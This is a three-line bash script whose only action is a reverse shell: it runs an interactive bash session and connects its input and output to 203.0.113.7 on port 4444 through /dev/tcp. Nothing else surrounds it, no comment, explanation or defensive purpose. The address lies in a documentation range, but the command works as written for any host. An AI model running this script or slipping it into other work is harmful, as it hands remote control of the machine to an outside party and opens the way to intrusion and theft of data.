#!/bin/bash
set -e
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
